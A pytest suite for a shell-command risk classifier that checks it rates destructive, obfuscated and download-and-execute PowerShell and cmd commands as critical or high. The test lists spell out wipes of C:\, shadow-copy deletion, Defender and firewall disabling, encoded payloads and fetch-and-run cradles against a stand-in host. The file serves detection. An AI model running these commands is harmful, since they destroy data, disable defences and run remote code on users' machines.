"""Commands of PowerShell and cmd: what destroys is found however it is spelled, what looks is left alone."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from caro.domain import RISKS
from caro.safety import assess
from caro.safety.windows.signs import dialect


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


POWERSHELL_CRITICAL = [
    "Remove-Item -Recurse -Force C:\\",
    "Remove-Item -Path C:\\* -Recurse -Force",
    "Remove-Item C:\\ -Recurse -WhatIf:$false",
    "Remove-Item C:\\ -Recurse -Exclude '-WhatIf'",
    "rm -r -fo C:\\",
    "ri -rec C:\\Windows",
    "del -Recurse $env:SystemRoot",
    "rd -Recurse $env:USERPROFILE",
    "erase -r ~",
    "rm -Recurse $HOME",
    "Remove-Item D:\\ -Recurse",
    "Get-ChildItem C:\\ -Recurse | Remove-Item -Force",
    "gci C:\\Windows | ri -Recurse -Force",
    "Get-ChildItem C:\\ | % { Remove-Item $_.FullName -Recurse }",
    "Get-ChildItem C:\\ | ForEach-Object { $_ | ri -Recurse }",
    "foreach ($f in Get-ChildItem C:\\) { Remove-Item $f -Recurse }",
    "R`emove-It`em -Recurse C:\\",
    "& 'Remove-Item' -Recurse C:\\",
    "& ('Remove' + '-Item') -Recurse C:\\",
    "& \"{1}{0}\" -f 'x','y'; & (\"{1}-{0}\" -f 'Item','Remove') -Recurse C:\\",
    "$c = 'Remove-' + 'Item'; & $c -Recurse 'C:\\'",
    "iex ('Remove' + '-Item -Recurse C:\\')",
    "'Remove-Item -Recurse C:\\' | iex",
    'Invoke-Expression "rd -Recurse C:\\"',
    "iex (New-Object Net.WebClient).DownloadString('http://a.b/c')",
    "iex ((New-Object System.Net.WebClient).DownloadString('http://a.b/c'))",
    "iwr http://a.b/c -UseBasicParsing | iex",
    "(irm http://a.b/c) | Invoke-Expression",
    "$x = iwr http://a.b/c; iex $x.Content",
    "& ([scriptblock]::Create((irm http://a.b/c)))",
    "powershell -EncodedCommand " + encoded("Remove-Item -Recurse C:\\"),
    "powershell -nop -w hidden -e " + encoded("calc"),
    "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + encoded("rm -r C:\\") + "')))",
    "[IO.Directory]::Delete('C:\\Windows', $true)",
    "Format-Volume -DriveLetter C -Force",
    "Clear-Disk -Number 0 -RemoveData -Confirm:$false",
    "cmd /c rd /s /q C:\\",
    'cmd.exe /c "del /f /s /q C:\\*"',
    "Start-Process cmd -ArgumentList '/c rd /s /q C:\\Windows'",
    "Start-Process powershell -Verb RunAs -ArgumentList '-Command Remove-Item -Recurse C:\\'",
    "Invoke-Command -ScriptBlock { Remove-Item -Recurse -Force C:\\ }",
    "if ($true) { Remove-Item -Recurse C:\\ }",
    "function x { rm -Recurse C:\\ }; x",
    "try { rm -Recurse C:\\ } catch {}",
    "vssadmin delete shadows /all /quiet",
    "bcdedit /set {default} recoveryenabled no",
    "Remove-Item HKLM:\\SOFTWARE -Recurse",
    "rm -rf /",
    "([char]105+[char]101+[char]120); & ([char]105+[char]101+[char]120) 'rm -Recurse C:\\'",
    "bash -c 'rm -rf /'",
    "wsl rm -rf /",
]
POWERSHELL_HIGH = [
    "iex $x",
    "Invoke-Expression $args[0]",
    "& $env:comspec[4,15,25] x",
    "Set-ExecutionPolicy Bypass -Scope Process -Force",
    "Stop-Computer -Force",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False",
    "net user eve S3cret /add",
    "reg delete HKCU\\Software\\Vendor /f",
    "Clear-EventLog -LogName Security",
    "Remove-Item -Recurse $unknown",
    "git reset --hard",
]
CMD_CRITICAL = [
    "del /f /s /q C:\\*",
    "del /s /q C:\\Windows",
    "rd /s /q C:\\",
    "rd/s/q C:\\",
    "rmdir /S /Q %SystemRoot%",
    "rd /s /q %USERPROFILE%",
    "r^d /s /q C:\\",
    "d^e^l /s /q C:\\*",
    '"rd" /s /q "C:\\Windows"',
    "set x=rd /s /q C:\\&& call %x%",
    "set a=r&& set b=d&& %a%%b% /s /q C:\\",
    "echo y| rd /s C:\\Windows",
    "for %i in (C:\\Windows) do rd /s /q %i",
    "if exist C:\\Windows rd /s /q C:\\Windows",
    'if not "%x%"=="1" (rd /s /q C:\\)',
    "cd . & rd /s /q C:\\",
    "start /b cmd /c rd /s /q C:\\",
    "cmd /c cmd /c rd /s /q C:\\",
    "%comspec% /c rd /s /q C:\\",
    "format C: /q /y",
    "format/q d:",
    "diskpart /s wipe.txt",
    'powershell -c "Remove-Item -Recurse C:\\"',
    "powershell -enc " + encoded("rm -r C:\\"),
    "vssadmin delete shadows /all /quiet",
    "wmic shadowcopy delete",
    "bcdedit /deletevalue {current} safeboot",
    "reg delete HKLM /f",
    "takeown /f C:\\ /r /d y",
    "icacls C:\\Windows /grant everyone:F /t",
    "mshta http://a.b/c.hta",
]
CMD_HIGH = [
    "reg delete HKCU\\Software\\Vendor /f",
    "net user eve S3cret /add",
    "netsh advfirewall set allprofiles state off",
    "shutdown /s /t 0",
    "taskkill /f /im lsass.exe",
    "%x% /s /q C:\\data",
    "wevtutil cl Security",
    "schtasks /create /tn a /tr b.exe /sc onlogon",
    "certutil -urlcache -f http://a.b/c c.exe",
]
POWERSHELL_SAFE = [
    "Get-ChildItem C:\\ -Recurse -Filter *.log",
    "ls | Sort-Object Length -Descending | Select-Object -First 5",
    "Get-Process | Where-Object { $_.CPU -gt 100 } | Format-Table Name, CPU",
    "Get-Content a.txt | Select-String 'Remove-Item -Recurse C:\\'",
    "'Remove-Item -Recurse C:\\'",
    'Write-Output "rm -rf /"',
    "# Remove-Item -Recurse C:\\",
    "$PSVersionTable",
    "Get-Service | ? Status -eq Running",
    "Test-Path C:\\Windows",
    "cat a.txt | measure -Line",
]
CMD_SAFE = [
    "dir /s C:\\*.log",
    "echo del /s /q C:\\",
    "type a.txt | findstr error",
    "ipconfig /all",
    "echo a ^& rd /s /q C:\\",
    "rem rd /s /q C:\\",
    "cd C:\\ & dir",
    'tasklist | find "chrome"',
]


def rank(command: str, shell: str) -> int:
    return RISKS.index(assess(command, shell=shell).risk)


@pytest.mark.parametrize("command", POWERSHELL_CRITICAL)
def test_powershell_that_destroys_is_critical(command: str) -> None:
    assert assess(command, shell="powershell").risk == "critical"


@pytest.mark.parametrize("command", CMD_CRITICAL)
def test_cmd_that_destroys_is_critical(command: str) -> None:
    assert assess(command, shell="cmd").risk == "critical"


@pytest.mark.parametrize(
    ("command", "shell"), [*((c, "powershell") for c in POWERSHELL_HIGH), *((c, "cmd") for c in CMD_HIGH)]
)
def test_what_endangers_is_at_least_high(command: str, shell: str) -> None:
    assert rank(command, shell) >= RISKS.index("high")


@pytest.mark.parametrize(
    ("command", "shell"), [*((c, "powershell") for c in POWERSHELL_SAFE), *((c, "cmd") for c in CMD_SAFE)]
)
def test_what_looks_is_safe(command: str, shell: str) -> None:
    assert assess(command, shell=shell).risk == "safe"


@pytest.mark.parametrize("shell", ["powershell", "cmd"])
@pytest.mark.parametrize("command", ["frobnicate", "frobnicate /x", "./tool.exe --all", "Frob-Nicate"])
def test_what_is_not_known_is_at_least_moderate(command: str, shell: str) -> None:
    assert rank(command, shell) >= RISKS.index("moderate")


@pytest.mark.parametrize(
    "command",
    [c for c in POWERSHELL_CRITICAL if c[0].isalpha() and "-" in c.split()[0]]
    + [c for c in CMD_CRITICAL if c.startswith(("rd", "del", "vss", "bcd", "reg", "powershell", "format"))],
)
def test_it_is_recognised_without_being_told(command: str) -> None:
    assert dialect(command)
    assert assess(command).risk == "critical"


@pytest.mark.parametrize(
    ("wrap", "command"),
    [
        (wrap, command)
        for wrap in (
            "powershell -Command '{}'",
            "sudo pwsh -c '{}'",
            "powershell.exe -NoProfile -Command '{}'",
        )
        for command in ("Remove-Item -Recurse -Force C:\\", "iwr http://a.b/c | iex")
    ]
    + [("cmd.exe /c '{}'", "rd /s /q C:\\"), ("cmd //c '{}'", "del /s /q C:\\*")],
)
def test_a_unix_shell_that_starts_them_is_followed(wrap: str, command: str) -> None:
    assert assess(wrap.format(command)).risk == "critical"


@pytest.mark.parametrize(
    "command",
    ["ls-files x", "git-get x", "start-stop-daemon --status", "docker start a", "iex -S mix", "ri String"],
)
def test_unix_commands_are_not_taken_for_theirs(command: str) -> None:
    assert dialect(command) == ""


def test_findings_point_at_the_words_as_typed() -> None:
    command = "Get-Date; rd^ /s /q C:\\"
    finding = assess("cd . & rd /s /q C:\\", shell="cmd").findings[0]
    assert ("cd . & rd /s /q C:\\"[finding.start : finding.end]) == "C:\\"
    for shell in ("powershell", "cmd"):
        for found in assess(command, shell=shell).findings:
            assert 0 <= found.start < found.end <= len(command)


ATOMS = (
    "Remove-Item -Recurse C:\\ $x $env:TEMP ( ) { } $( @( @' '@ \" ' ` ; | & && iex rd /s %x% %x:~1,2% ^ "
    "for %i in do if exist set a=b > >> < , = [char]65 + -join -f .Invoke( :: # <# #> \n powershell -enc YQ"
)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from([*ATOMS.split(" "), " "]) | st.text(max_size=4), max_size=40).map(" ".join),
    st.sampled_from(["powershell", "cmd"]),
)
def test_no_text_makes_the_tokenizers_fail(text: str, shell: str) -> None:
    verdict = assess(text, shell=shell)
    for finding in verdict.findings:
        assert 0 <= finding.start <= finding.end <= len(text)
